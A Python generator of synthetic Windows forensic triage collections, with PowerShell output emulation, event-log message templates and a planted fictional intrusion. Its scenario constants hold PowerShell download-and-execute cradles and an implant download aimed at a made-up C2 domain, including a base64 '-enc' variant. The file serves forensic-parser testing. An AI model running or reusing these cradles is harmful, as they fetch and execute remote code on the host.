#!/usr/bin/env python3
"""Deterministic generator of DFIR-Script.ps1 collections, byte for byte as
Windows PowerShell 5.1 writes them.

Specification: ``/work/shared/reference/dfir-script-formats.md`` (section numbers
in comments, e.g. "§6.5", refer to it).  Only the standard library is used.

Layout of this module
---------------------
1. cultures, time zones, value rendering (§4, §5)
2. byte-level writers, one per format code of §3.1 (U16, C8, CA, P8, RAW)
3. a small emulation of the 5.1 formatting engine (Format-List / Format-Table, §8)
4. the scenario: one host, its users, processes, events ... and the planted findings
5. one renderer per DFIR-Script function (same names as in the script)
6. browser databases (real SQLite files)
7. family layouts (F6, F5, F4, F3b, F3a, F1)
8. zip writer (Compress-Archive style backslash names, §9.8)
9. streaming writer of big CSVs for benchmarks
10. self-check and CLI

Everything is derived from ``seed``; no wall-clock value is ever read.
"""
from __future__ import annotations

import argparse
import base64
import dataclasses
import datetime as dt
import functools
import hashlib
import io
import json
import random
import re
import shutil
import sqlite3
import sys
import zipfile
from pathlib import Path
from typing import Iterable, Iterator, Sequence

FAMILIES = ("F6", "F5", "F4", "F3b", "F3a", "F1")
CULTURES = ("en-US", "en-GB", "nl-NL", "de-DE")
FORMAT_WIDTH = 120          # Out-File width without a console buffer (§3.2)
CRLF = "\r\n"
CORPUS_DIR = Path("/work/shared/corpus")

# EVTX files copied into "Event Viewer\" (CC0-1.0, mdecrevoisier/EVTX-to-MITRE-Attack
# at 8119420d43bc0163200d64a733a80ad6e9cacf90; see sample_data/README.md).
EVTX_COPIES = {
    "Security.evtx": "evtx/shared/T1136_create_account/mdecrevoisier__ID4720-4726 Fast created-deleted user.evtx",
    "System.evtx": "evtx/shared/T1562.001_impair_defenses/mdecrevoisier__ID1-SYSMON driver unload (FilterManager).evtx",
    "Microsoft-Windows-PowerShell%4Operational.evtx":
        "evtx/shared/T1059.001_PowerShell/mdecrevoisier__ID4103-4104-Payload download via PowerShell.evtx",
}

# =============================================================================
# 1. Cultures, time zones, value rendering
# =============================================================================

_TOKENS = {"yyyy": "{yyyy:04d}", "dd": "{d:02d}", "MM": "{M:02d}", "HH": "{H:02d}", "hh": "{h:02d}",
           "mm": "{m:02d}", "ss": "{s:02d}", "tt": "{tt}", "d": "{d}", "M": "{M}", "H": "{H}", "h": "{h}"}


@functools.lru_cache(maxsize=None)
def _compile_pattern(pattern: str) -> str:
    """Translate a .NET custom date pattern into a str.format template (once)."""
    out, i = [], 0
    while i < len(pattern):
        for tok, repl in _TOKENS.items():          # longest tokens first (dict order)
            if pattern.startswith(tok, i):
                out.append(repl)
                i += len(tok)
                break
        else:
            out.append(pattern[i].replace("{", "{{").replace("}", "}}"))
            i += 1
    return "".join(out)


@dataclasses.dataclass(frozen=True)
class Culture:
    """The .NET/Win32 patterns of one culture (Windows 10/11 defaults)."""
    name: str
    short_date: str      # .NET custom format tokens
    long_time: str
    short_time: str
    decimal: str
    group: str
    tz: str              # time-zone rule used for local <-> UTC

    def fmt(self, value: dt.datetime, pattern: str) -> str:
        """The .NET custom date format tokens we need (d, dd, M, MM, yyyy, h, hh, H, HH, mm, ss, tt)."""
        return _compile_pattern(pattern).format(
            d=value.day, M=value.month, yyyy=value.year, H=value.hour, h=value.hour % 12 or 12,
            m=value.minute, s=value.second, tt="AM" if value.hour < 12 else "PM")

    def g(self, v: dt.datetime) -> str:
        """DateTime.ToString() = general pattern "G" (short date + long time)."""
        return self.fmt(v, self.short_date + " " + self.long_time)

    def short_dt(self, v: dt.datetime) -> str:
        """Short date + short time (query user LOGON TIME)."""
        return self.fmt(v, self.short_date + " " + self.short_time)

    def number(self, value: float, decimals: int = 2) -> str:
        """Double.ToString("N")."""
        s = f"{value:,.{decimals}f}"
        return s.replace(",", "\0").replace(".", self.decimal).replace("\0", self.group)

    def double(self, value: float) -> str:
        """Double.ToString() (shortest round-trip, culture decimal separator)."""
        return repr(float(value)).replace(".", self.decimal)


CULTURE_TABLE = {
    "en-US": Culture("en-US", "M/d/yyyy", "h:mm:ss tt", "h:mm tt", ".", ",", "US-Eastern"),
    "en-GB": Culture("en-GB", "dd/MM/yyyy", "HH:mm:ss", "HH:mm", ".", ",", "UK"),
    "nl-NL": Culture("nl-NL", "d-M-yyyy", "HH:mm:ss", "HH:mm", ",", ".", "EU-Central"),
    "de-DE": Culture("de-DE", "dd.MM.yyyy", "HH:mm:ss", "HH:mm", ",", ".", "EU-Central"),
}


def _nth_sunday(year: int, month: int, n: int) -> dt.date:
    d = dt.date(year, month, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(weeks=n - 1)


def _last_sunday(year: int, month: int) -> dt.date:
    d = dt.date(year + (month == 12), month % 12 + 1, 1) - dt.timedelta(days=1)
    return d - dt.timedelta(days=(d.weekday() + 1) % 7)


def utc_offset(tz: str, local: dt.datetime) -> dt.timedelta:
    """UTC offset of a local wall-clock time (hand-written DST rules, stdlib only)."""
    y = local.year
    if tz == "US-Eastern":   # second Sunday of March 02:00 .. first Sunday of November 02:00
        start = dt.datetime.combine(_nth_sunday(y, 3, 2), dt.time(2))
        end = dt.datetime.combine(_nth_sunday(y, 11, 1), dt.time(2))
        return dt.timedelta(hours=-4 if start <= local < end else -5)
    base = {"UK": 0, "EU-Central": 1}[tz]
    start = dt.datetime.combine(_last_sunday(y, 3), dt.time(base + 1))
    end = dt.datetime.combine(_last_sunday(y, 10), dt.time(base + 2))
    return dt.timedelta(hours=base + (1 if start <= local < end else 0))


class Arr:
    """A .NET collection: `System.String[]` in CSV, `{a, b, c, d...}` in text views."""

    def __init__(self, items: Sequence = (), type_name: str = "System.String[]"):
        self.items = list(items)
        self.type_name = type_name


class TimeSpan:
    """System.TimeSpan; `ticks` are 100 ns units."""
    MAX_TICKS = 2 ** 63 - 1

    def __init__(self, ticks: int):
        self.ticks = ticks

    @classmethod
    def seconds(cls, s: float) -> "TimeSpan":
        return cls(int(round(s * 10_000_000)))

    def __str__(self) -> str:  # TimeSpan.ToString() "c" format
        t = self.ticks
        days, rem = divmod(t, 864_000_000_000)
        h, rem = divmod(rem, 36_000_000_000)
        m, rem = divmod(rem, 600_000_000)
        s, frac = divmod(rem, 10_000_000)
        out = (f"{days}." if days else "") + f"{h:02d}:{m:02d}:{s:02d}"
        return out + (f".{frac:07d}" if frac else "")


INFINITE = TimeSpan(TimeSpan.MAX_TICKS)


class PSValue:
    """Renders Python values the way 5.1 does, for one culture.

    `csv()` follows ConvertTo-Csv (§3.3, §4); `text()` follows the formatting
    engine (Format-List/Format-Table cells)."""

    def __init__(self, culture: Culture):
        self.culture = culture

    def csv(self, v) -> str | None:
        if v is None:
            return None
        if isinstance(v, bool):
            return "True" if v else "False"
        if isinstance(v, dt.datetime):
            return self.culture.g(v)
        if isinstance(v, float):
            return self.culture.double(v)
        if isinstance(v, Arr):
            return v.type_name
        return str(v)

    def text(self, v) -> str:
        if v is None:
            return ""
        if isinstance(v, Arr):
            shown = [self.text(x) for x in v.items[:4]]
            return "{" + ", ".join(shown) + ("..." if len(v.items) > 4 else "") + "}"
        return self.csv(v)


# =============================================================================
# 2. Byte-level writers (format codes of §3.1)
# =============================================================================

def _mkparent(path: Path) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def lines_to_text(lines: Iterable[str]) -> str:
    """Out-File: every string followed by CRLF (§3.2); nothing else is touched."""
    return "".join(line + CRLF for line in lines)


def write_empty(path: Path) -> None:
    """Out-File/Export-Csv that received no input: 0 bytes, no BOM (§3.2)."""
    _mkparent(path).write_bytes(b"")


def write_u16(path: Path, lines: Sequence[str], append: bool = False) -> None:
    """U16: Out-File default encoding = UTF-16LE with BOM, CRLF.  `append`
    mimics Out-File -Append: no second BOM when the file is not empty."""
    path = _mkparent(path)
    if not lines:
        if not append:
            write_empty(path)
        return
    data = lines_to_text(lines).encode("utf-16-le")
    if append and path.exists() and path.stat().st_size > 0:
        with open(path, "ab") as fh:
            fh.write(data)
    else:
        path.write_bytes(b"\xff\xfe" + data)


def write_utf8_bom(path: Path, lines: Sequence[str]) -> None:
    """P8 and C8: Out-File -Encoding UTF8 = UTF-8 with BOM, CRLF."""
    path = _mkparent(path)
    if not lines:
        write_empty(path)
        return
    path.write_bytes(b"\xef\xbb\xbf" + lines_to_text(lines).encode("utf-8"))


def to_ascii(text: str) -> str:
    """.NET ASCIIEncoding: every UTF-16 code unit above 0x7F becomes '?'."""
    if text.isascii():
        return text
    return "".join(c if ord(c) < 0x80 else ("??" if ord(c) > 0xFFFF else "?") for c in text)


def write_ascii(path: Path, lines: Sequence[str]) -> None:
    """CA: Export-Csv default encoding = ASCII, no BOM, CRLF."""
    path = _mkparent(path)
    if not lines:
        write_empty(path)
        return
    path.write_bytes(to_ascii(lines_to_text(lines)).encode("ascii"))


def csv_field(value: str | None) -> str:
    """5.1 EscapeAndAppendString: null -> nothing, else quoted with "" doubling."""
    if value is None:
        return ""
    return '"' + value.replace('"', '""') + '"'


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[str | None]]) -> list[str]:
    """ConvertTo-Csv/Export-Csv -NoTypeInformation records (one string per record;
    a record may contain CR/LF inside quotes, §3.3)."""
    out = [",".join(csv_field(h) for h in header)]
    out.extend(",".join(csv_field(v) for v in row) for row in rows)
    return out


def objects_to_rows(pv: PSValue, header: Sequence[str], objects: Iterable[dict]) -> list[list[str | None]]:
    """Header comes from the first object; missing properties of later objects
    become empty unquoted fields and their extra properties are dropped (§3.3)."""
    return [[pv.csv(obj.get(h)) for h in header] for obj in objects]


def ps_replace(line: str) -> str:
    """`-replace '\\s\\s+', ','` as applied by DFIR-Script to native output (§7.0)."""
    return re.sub(r"\s\s+", ",", line)


def write_c8(path: Path, pv: PSValue, objects: Sequence[dict], header: Sequence[str] | None = None) -> None:
    """C8: `ConvertTo-Csv -NoTypeInformation | Out-File -Encoding UTF8`."""
    if not objects:
        write_empty(path)
        return
    header = list(header or objects[0].keys())
    write_utf8_bom(path, csv_lines(header, objects_to_rows(pv, header, objects)))


def write_ca(path: Path, pv: PSValue, objects: Sequence[dict], header: Sequence[str] | None = None) -> None:
    """CA: `Export-Csv -NoTypeInformation` (ASCII)."""
    if not objects:
        write_empty(path)
        return
    header = list(header or objects[0].keys())
    write_ascii(path, csv_lines(header, objects_to_rows(pv, header, objects)))


def write_p8(path: Path, native_lines: Sequence[str]) -> None:
    """P8: `(native.exe) -split "\\n" -replace '\\s\\s+', ',' | Out-File -Encoding UTF8`."""
    write_utf8_bom(path, [ps_replace(line) for line in native_lines])


# =============================================================================
# 3. Formatting engine (Format-List / Format-Table, §8)
# =============================================================================

def _words(s: str) -> Iterator[str]:
    """GetWords of the 5.1 StringManipulationHelper: each word keeps its delimiter."""
    buf = []
    for ch in s:
        if ch in " \t":
            yield "".join(buf) + ch
            buf = []
        else:
            buf.append(ch)
    yield "".join(buf)


def wrap_cells(s: str, first: int, following: int) -> list[str]:
    """GenerateLinesWithWordWrap: break between words; a word longer than a
    whole line is split inside the token (§8.1 continuation lines)."""
    if not s:
        return [""]
    lines, cur, room, width = [], "", first, first
    for word in _words(s):
        if not word:
            continue
        if len(word) > width:                  # longer than a full line: hard split
            for ch in word:
                if room < 1:
                    lines.append(cur)
                    cur, width = "", following
                    room = width
                cur += ch
                room -= 1
        elif len(word) > room:                 # does not fit on this line
            lines.append(cur)
            width = following
            cur, room = word, width - len(word)
        else:
            cur += word
            room -= len(word)
    lines.append(cur)
    return lines


Record = Sequence[tuple[str, str]]   # one Format-List entry: (label, display text)


def format_list(records: Iterable[Record], width: int = FORMAT_WIDTH) -> list[str]:
    """Format-List text: a blank line at start, a blank line before every entry,
    labels padded to a common width, continuation lines indented to the value
    column, two blank lines at the end (§8.1)."""
    out = [""]
    for rec in records:
        out.append("")
        w = max(len(label) for label, _ in rec)
        pad = " " * (w + 3)
        for label, value in rec:
            prefix = label.ljust(w) + " : "
            for i, vline in enumerate(value.replace("\r\n", "\n").split("\n")):
                for j, chunk in enumerate(wrap_cells(vline, width - w - 3, width - w - 3)):
                    out.append((prefix if i == 0 and j == 0 else pad) + chunk)
    out += ["", ""]
    return out


@dataclasses.dataclass
class Col:
    header: str
    width: int | None = None        # None: take the rest of the line
    right: bool = False


def _cell(text: str, width: int, right: bool) -> str:
    if len(text) > width:            # 5.1 truncation marker is "..." (§8.2)
        text = text[: max(width - 3, 0)] + "..."
    return text.rjust(width) if right else text.ljust(width)


def table_body(cols: Sequence[Col], rows: Iterable[Sequence[str]], width: int = FORMAT_WIDTH) -> list[str]:
    """Header, dash line and rows of one Format-Table block.  Columns that do not
    fit into `width` are dropped from the right; a multi-line cell produces
    continuation rows with empty cells elsewhere (registry `Property`)."""
    fitted, used = [], 0
    for c in cols:
        need = (c.width or 1) + (1 if fitted else 0)
        if used + need > width:
            break
        fitted.append(c)
        used += need
    widths = [c.width for c in fitted]
    if widths and widths[-1] is None:
        widths[-1] = width - (used - 1) - 1
    nshown = len(fitted)

    def line(cells: Sequence[str]) -> str:
        return " ".join(_cell(t, w, c.right) for t, w, c in zip(cells, widths, fitted)).rstrip()

    out = [line([c.header for c in fitted]), line(["-" * len(c.header) for c in fitted])]
    for row in rows:
        parts = [str(v).split("\n") for v in row[:nshown]]
        for k in range(max(len(p) for p in parts)):
            out.append(line([p[k] if k < len(p) else "" for p in parts]))
    return out


def format_table(cols: Sequence[Col], rows: Iterable[Sequence[str]], width: int = FORMAT_WIDTH,
                 group_label: str | None = None) -> list[str]:
    """A whole Format-Table output: one leading blank line (two blank lines around
    a `    Hive: …` group header), the table, two blank lines at the end (§8.2)."""
    rows = list(rows)
    if not rows:
        return []
    head = ["", "", group_label, "", ""] if group_label else [""]
    return head + table_body(cols, rows, width) + ["", ""]


def format_grouped_table(cols: Sequence[Col], groups: Sequence[tuple[str, list]], width: int = FORMAT_WIDTH) -> list[str]:
    """Format-Table with GroupBy and no sorting: a new group header whenever the
    group value changes between consecutive objects (Format-Table -View priority)."""
    out = [""]
    for label, rows in groups:
        out += ["", label, ""] + table_body(cols, rows, width) + [""]
    return out + [""]


# =============================================================================
# 4. Scenario
# =============================================================================

def sub_rng(seed: int, name: str) -> random.Random:
    """An independent, stable random stream per artefact."""
    return random.Random(int.from_bytes(hashlib.sha256(f"{seed}:{name}".encode()).digest()[:8], "big"))


def fake_sha256(text: str) -> str:
    return hashlib.sha256(("triageparse-demo:" + text.lower()).encode()).hexdigest().upper()


def fake_sha1(text: str) -> str:
    return hashlib.sha1(("triageparse-demo:" + text.lower()).encode()).hexdigest().upper()


def fake_guid(rng: random.Random, upper: bool = False) -> str:
    h = "%032x" % rng.getrandbits(128)
    g = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:32]}"
    return g.upper() if upper else g


def day_gt12_before(d: dt.date, min_back: int) -> dt.date:
    """The latest day at least `min_back` days before `d` whose day-of-month is
    > 12, so that every collection settles the d/M versus M/d question (§5)."""
    cand = d - dt.timedelta(days=min_back)
    while cand.day <= 12:
        cand -= dt.timedelta(days=1)
    return cand


# --- fixed indicators of the planted intrusion (the same "campaign" on every host)
C2_DOMAIN = "a9f3k2q8x7v1m4z6p0w5.cdn-telemetry-sync.xyz"
C2_IP = "185.225.73.18"
BRUTE_IP = "45.155.205.233"
BRUTE_WORKSTATION = "WIN-8K2N4Q1J5T3"
IMPLANT_PATH = r"C:\Users\Public\Libraries\RuntimeBroker.exe"
TASK_PATH = "\\Microsoft\\Windows\\UpdateOrchestrator\\"
TASK_NAME = "SvcHealthCheck"
ENC_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/s')"
ENC_B64 = base64.b64encode(ENC_SCRIPT.encode("utf-16-le")).decode()
ENC_COMMAND = f"powershell.exe -NoProfile -WindowStyle Hidden -enc {ENC_B64}"
ENC_PROCESS_CMDLINE = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
                       f"-NoProfile -WindowStyle Hidden -enc {ENC_B64}")
IWR_CRADLE = f"IEX (iwr -UseBasicParsing http://{C2_DOMAIN}/s.ps1).Content"
IWR_DOWNLOAD = f"iwr http://{C2_DOMAIN}/rb.exe -OutFile {IMPLANT_PATH}"
NEW_ADMIN = "svc_backup"
BRUTE_USER = "helpdesk"
DEFENDER_EXCLUSION = r"C:\Users\Public"
THREAT_NAME = "Trojan:Win64/CobaltStrike.CR!MTB"
RUN_VALUE_NAME = "MicrosoftEdgeAutoUpdate"
RUNONCE_VALUE_NAME = "Delete Cached Update Binary"
TEMP_IMPLANT_NAME = "msedge_update.exe"
DOWNLOAD_URL = "https://cdn-docs-portal.top/share/Invoice_{date}.pdf.exe"
MACHINE_SID = "S-1-5-21-3623811015-3361044348-30300820"
ENTRA_SID = "S-1-12-1-2851961412-1180913094-2434710923-3457021731"
MAIN_USER = {"en-US": ("jdoe", "John Doe"), "en-GB": ("jsmith", "Jane Smith"),
             "nl-NL": ("jdevries", "Jan de Vries"), "de-DE": ("mmueller", "Markus Müller")}


@dataclasses.dataclass
class Proc:
    name: str
    pid: int
    ppid: int
    path: str | None
    cmd: str | None
    session: int = 0
    user: str = "SYSTEM"
    priority: str | None = "Normal"
    handles: int = 200
    ws_kb: int = 8000
    pm_kb: int = 4000
    npm_kb: int = 12
    cpu: float | None = 0.1
    threads: int = 4
    start: dt.datetime | None = None
    company: str | None = "Microsoft Corporation"
    description: str | None = None
    version: str | None = None          # None: the OS build of the scenario's era
    hash: str | None = None


@dataclasses.dataclass
class Scenario:
    """Everything one collection shows: the host, its timeline (local wall-clock times),
    processes, security events and the planted findings (`findings`, also in README)."""
    host: str
    date: dt.date
    family: str
    culture: Culture
    seed: int
    admin: bool
    context: str                    # "user" (interactive, elevated) or "system" (Live Response)
    rows_scale: float
    collect: dt.datetime            # local time the script started
    user: str
    user_full: str
    entra: bool
    pv: PSValue | None = None
    # filled by build_*()
    t: dict = dataclasses.field(default_factory=dict)            # named timeline (local)
    procs: list = dataclasses.field(default_factory=list)
    events: list = dataclasses.field(default_factory=list)
    findings: dict = dataclasses.field(default_factory=dict)

    def __post_init__(self):
        self.pv = PSValue(self.culture)

    # -- helpers
    def at(self, days_before: int, hhmmss: str) -> dt.datetime:
        h, m, s = (int(x) for x in hhmmss.split(":"))
        return dt.datetime.combine(self.date - dt.timedelta(days=days_before), dt.time(h, m, s))

    def utc(self, local: dt.datetime) -> dt.datetime:
        return local - utc_offset(self.culture.tz, local)

    def rng(self, name: str) -> random.Random:
        return sub_rng(self.seed, f"{self.host}:{name}")

    def scaled(self, n: int, minimum: int = 1) -> int:
        return max(minimum, int(round(n * self.rows_scale)))

    @property
    def folder_name(self) -> str:
        return f"DFIR-{self.host}-{self.date.isoformat()}"

    @property
    def user_account(self) -> str:
        return (f"AzureAD\\{self.user}" if self.entra else f"{self.host}\\{self.user}")

    @property
    def user_sid(self) -> str:
        return ENTRA_SID if self.entra else f"{MACHINE_SID}-1001"

    def sid(self, rid: int) -> str:
        return f"{MACHINE_SID}-{rid}"


# -----------------------------------------------------------------------------
# 4a. Security event messages (English, as Get-EventLog renders them: SIDs and
#     %%nnnn parameter strings are *not* resolved by the legacy API).
# -----------------------------------------------------------------------------

_LOGON_EXPLAIN = """This event is generated when a logon session is created. It is generated on the computer that was accessed.

The subject fields indicate the account on the local system which requested the logon. This is most commonly a service such as the Server service, or a local process such as Winlogon.exe or Services.exe.

The logon type field indicates the kind of logon that occurred. The most common types are 2 (interactive) and 3 (network).

The New Logon fields indicate the account for whom the new logon was created, i.e. the account that was logged on.

The network fields indicate where a remote logon request originated. Workstation name is not always available and may be left blank in some cases.

The impersonation level field indicates the extent to which a process in the logon session can impersonate.

The authentication information fields provide detailed information about this specific logon request.
\t- Logon GUID is a unique identifier that can be used to correlate this event with a KDC event.
\t- Transited services indicate which intermediate services have participated in this logon request.
\t- Package name indicates which sub-protocol was used among the NTLM protocols.
\t- Key length indicates the length of the generated session key. This will be 0 if no session key was requested."""

_FAILED_EXPLAIN = """This event is generated when a logon request fails. It is generated on the computer where access was attempted.

The Subject fields indicate the account on the local system which requested the logon. This is most commonly a service such as the Server service, or a local process such as Winlogon.exe or Services.exe.

The Logon Type field indicates the kind of logon that was requested. The most common types are 2 (interactive) and 3 (network).

The Process Information fields indicate which account and process on the system requested the logon.

The Network Information fields indicate where a remote logon request originated. Workstation name is not always available and may be left blank in some cases.

The authentication information fields provide detailed information about this specific logon request.
\t- Transited services indicate which intermediate services have participated in this logon request.
\t- Package name indicates which sub-protocol was used among the NTLM protocols.
\t- Key length indicates the length of the generated session key. This will be 0 if no session key was requested."""

_TOKEN_EXPLAIN = """Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.

Type 1 is a full token with no privileges removed or groups disabled.  A full token is only used if User Account Control is disabled or if the user is the built-in Administrator account or a service account.

Type 2 is an elevated token with no privileges removed or groups disabled.  An elevated token is used when User Account Control is enabled and the user chooses to start the program using Run as administrator.  An elevated token is also used when an application is configured to always require administrative privilege or to always require maximum privilege, and the user is a member of the Administrators group.

Type 3 is a limited token with administrative privileges removed and administrative groups disabled.  The limited token is used when User Account Control is enabled, the application does not require administrative privilege, and the user does not choose to start the program using Run as administrator."""

_SUBJECT = """Subject:
\tSecurity ID:\t\t{sid}
\tAccount Name:\t\t{name}
\tAccount Domain:\t\t{dom}
\tLogon ID:\t\t{lid}"""

SYSTEM_ACCT = ("S-1-5-18", "SYSTEM", "NT AUTHORITY", "0x3e7")
ADMIN_PRIVS = ["SeSecurityPrivilege", "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege", "SeBackupPrivilege",
               "SeRestorePrivilege", "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege",
               "SeDelegateSessionUserImpersonatePrivilege"]
SYSTEM_PRIVS = ["SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege"] + ADMIN_PRIVS[:6] + \
               ["SeAuditPrivilege", "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege",
                "SeDelegateSessionUserImpersonatePrivilege"]
CATEGORY = {4624: 12544, 4625: 12544, 4634: 12545, 4672: 12548, 4688: 13312, 4720: 13824, 4722: 13824,
            4724: 13824, 4798: 13824, 5379: 13824, 4732: 13826, 1102: 104}


def _subject(acct: tuple) -> str:
    sid, name, dom, lid = acct
    return _SUBJECT.format(sid=sid, name=name, dom=dom, lid=lid)


def msg_4624(subj: tuple, new: tuple, ltype: int, proc: tuple, net: tuple, auth: tuple, elevated: bool,
             linked: str = "0x0") -> tuple[str, list]:
    pid, pname = proc
    ws, ip, port = net
    lproc, pkg, lm, keylen = auth
    restricted = "%%1843" if ltype == 10 else "-"
    body = f"""An account was successfully logged on.

{_subject(subj)}

Logon Information:
\tLogon Type:\t\t{ltype}
\tRestricted Admin Mode:\t{restricted}
\tVirtual Account:\t\t%%1843
\tElevated Token:\t\t{"%%1842" if elevated else "%%1843"}

Impersonation Level:\t\t%%1833

New Logon:
\tSecurity ID:\t\t{new[0]}
\tAccount Name:\t\t{new[1]}
\tAccount Domain:\t\t{new[2]}
\tLogon ID:\t\t{new[3]}
\tLinked Logon ID:\t\t{linked}
\tNetwork Account Name:\t-
\tNetwork Account Domain:\t-
\tLogon GUID:\t\t{{00000000-0000-0000-0000-000000000000}}

Process Information:
\tProcess ID:\t\t{pid}
\tProcess Name:\t\t{pname}

Network Information:
\tWorkstation Name:\t{ws}
\tSource Network Address:\t{ip}
\tSource Port:\t\t{port}

Detailed Authentication Information:
\tLogon Process:\t\t{lproc}
\tAuthentication Package:\t{pkg}
\tTransited Services:\t-
\tPackage Name (NTLM only):\t{lm}
\tKey Length:\t\t{keylen}

{_LOGON_EXPLAIN}"""
    repl = [*subj, *new, str(ltype), lproc, pkg, ws, "{00000000-0000-0000-0000-000000000000}", "-", lm,
            str(keylen), pid, pname, ip, port, "%%1833", restricted, "-", "-", "%%1843", linked,
            "%%1842" if elevated else "%%1843"]
    return body, repl


def msg_4625(target: str, sub_status: str, ip: str, ws: str) -> tuple[str, list]:
    body = f"""An account failed to log on.

{_subject(("S-1-0-0", "-", "-", "0x0"))}

Logon Type:\t\t\t3

Account For Which Logon Failed:
\tSecurity ID:\t\tS-1-0-0
\tAccount Name:\t\t{target}
\tAccount Domain:\t\t

Failure Information:
\tFailure Reason:\t\t%%2313
\tStatus:\t\t\t0xc000006d
\tSub Status:\t\t{sub_status}

Process Information:
\tCaller Process ID:\t0x0
\tCaller Process Name:\t-

Network Information:
\tWorkstation Name:\t{ws}
\tSource Network Address:\t{ip}
\tSource Port:\t\t0

Detailed Authentication Information:
\tLogon Process:\t\tNtLmSsp 
\tAuthentication Package:\tNTLM
\tTransited Services:\t-
\tPackage Name (NTLM only):\t-
\tKey Length:\t\t0

{_FAILED_EXPLAIN}"""
    repl = ["S-1-0-0", "-", "-", "0x0", "S-1-0-0", target, "", "0xc000006d", "%%2313", sub_status, "3",
            "NtLmSsp ", "NTLM", ws, "-", "-", "0", "0x0", "-", ip, "0"]
    return body, repl


def msg_4672(subj: tuple, privs: list[str]) -> tuple[str, list]:
    body = f"""Special privileges assigned to new logon.

{_subject(subj)}

Privileges:\t\t{chr(10).join(privs).replace(chr(10), chr(10) + chr(9) * 3)}"""
    return body, [*subj, "\r\n\t\t\t".join(privs)]


def msg_4634(acct: tuple, ltype: int) -> tuple[str, list]:
    body = f"""An account was logged off.

{_subject(acct)}

Logon Type:\t\t\t{ltype}

This event is generated when a logon session is destroyed. It may be positively correlated with a logon event using the Logon ID value. Logon IDs are only unique between reboots on the same computer."""
    return body, [*acct, str(ltype)]


def msg_4688(subj: tuple, new_pid: int, new_name: str, elev: str, label: str, parent_pid: int,
             parent_name: str, cmdline: str) -> tuple[str, list]:
    body = f"""A new process has been created.

Creator {_subject(subj)}

Target Subject:
\tSecurity ID:\t\tS-1-0-0
\tAccount Name:\t\t-
\tAccount Domain:\t\t-
\tLogon ID:\t\t0x0

Process Information:
\tNew Process ID:\t\t{new_pid:#x}
\tNew Process Name:\t{new_name}
\tToken Elevation Type:\t{elev}
\tMandatory Label:\t\t{label}
\tCreator Process ID:\t{parent_pid:#x}
\tCreator Process Name:\t{parent_name}
\tProcess Command Line:\t{cmdline}

{_TOKEN_EXPLAIN}"""
    repl = [*subj, f"{new_pid:#x}", new_name, elev, f"{parent_pid:#x}", cmdline, "S-1-0-0", "-", "-", "0x0",
            parent_name, label]
    return body, repl


def msg_account(eid: int, subj: tuple, target: tuple, proc: tuple = (0, "-")) -> tuple[str, list]:
    """4722 (enabled), 4724 (password reset), 4798 (group membership enumerated)."""
    title = {4722: "A user account was enabled.",
             4724: "An attempt was made to reset an account's password.",
             4798: "A user's local group membership was enumerated."}[eid]
    section = "User" if eid == 4798 else "Target Account"
    body = f"""{title}

{_subject(subj)}

{section}:
\tSecurity ID:\t\t{target[0]}
\tAccount Name:\t\t{target[1]}
\tAccount Domain:\t\t{target[2]}"""
    repl = [target[1], target[2], target[0], *subj]
    if eid == 4798:
        body += f"\n\nProcess Information:\n\tProcess ID:\t\t{proc[0]:#x}\n\tProcess Name:\t\t{proc[1]}"
        repl += [f"{proc[0]:#x}", proc[1]]
    return body, repl


def msg_4720(subj: tuple, new: tuple) -> tuple[str, list]:
    body = f"""A user account was created.

{_subject(subj)}

New Account:
\tSecurity ID:\t\t{new[0]}
\tAccount Name:\t\t{new[1]}
\tAccount Domain:\t\t{new[2]}

Attributes:
\tSAM Account Name:\t{new[1]}
\tDisplay Name:\t\t%%1793
\tUser Principal Name:\t-
\tHome Directory:\t\t%%1793
\tHome Drive:\t\t%%1793
\tScript Path:\t\t%%1793
\tProfile Path:\t\t%%1793
\tUser Workstations:\t%%1793
\tPassword Last Set:\t%%1794
\tAccount Expires:\t\t%%1794
\tPrimary Group ID:\t513
\tAllowed To Delegate To:\t-
\tOld UAC Value:\t\t0x0
\tNew UAC Value:\t\t0x15
\tUser Account Control:\t
\t\t%%2080
\t\t%%2082
\t\t%%2084
\tUser Parameters:\t%%1793
\tSID History:\t\t-
\tLogon Hours:\t\t%%1797

Additional Information:
\tPrivileges\t\t-"""
    repl = [new[1], new[2], new[0], *subj, "-", new[1], "%%1793", "-", "%%1793", "%%1793", "%%1793",
            "%%1793", "%%1793", "%%1794", "%%1794", "513", "-", "0x0", "0x15",
            "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "%%1793", "-", "%%1797"]
    return body, repl


def msg_4732(subj: tuple, member_sid: str) -> tuple[str, list]:
    body = f"""A member was added to a security-enabled local group.

{_subject(subj)}

Member:
\tSecurity ID:\t\t{member_sid}
\tAccount Name:\t\t-

Group:
\tSecurity ID:\t\tS-1-5-32-544
\tGroup Name:\t\tAdministrators
\tGroup Domain:\t\tBuiltin

Additional Information:
\tPrivileges:\t\t-"""
    return body, ["-", member_sid, "Administrators", "Builtin", "S-1-5-32-544", *subj, "-"]


def msg_5379(acct: tuple, target: str) -> tuple[str, list]:
    body = f"""Credential Manager credentials were read.

{_subject(acct)}
\tRead Operation:\t\t%%8100

This event occurs when a user performs a read operation on stored credentials in Credential Manager."""
    return body, [*acct, target, "1", "%%8100", "0", "0"]


def msg_1102(acct: tuple) -> tuple[str, list]:
    sid, name, dom, lid = acct
    body = f"""The audit log was cleared.
Subject:
\tSecurity ID:\t{sid}
\tAccount Name:\t{name}
\tDomain Name:\t{dom}
\tLogon ID:\t{lid}"""
    return body, [sid, name, dom, lid]


def sec_event(scn: Scenario, when: dt.datetime, eid: int, built: tuple[str, list], failure: bool = False) -> dict:
    body, repl = built
    return {"EventID": eid, "MachineName": scn.host, "Data": Arr([], "System.Byte[]"), "Index": 0,
            "Category": f"({CATEGORY[eid]})", "CategoryNumber": CATEGORY[eid],
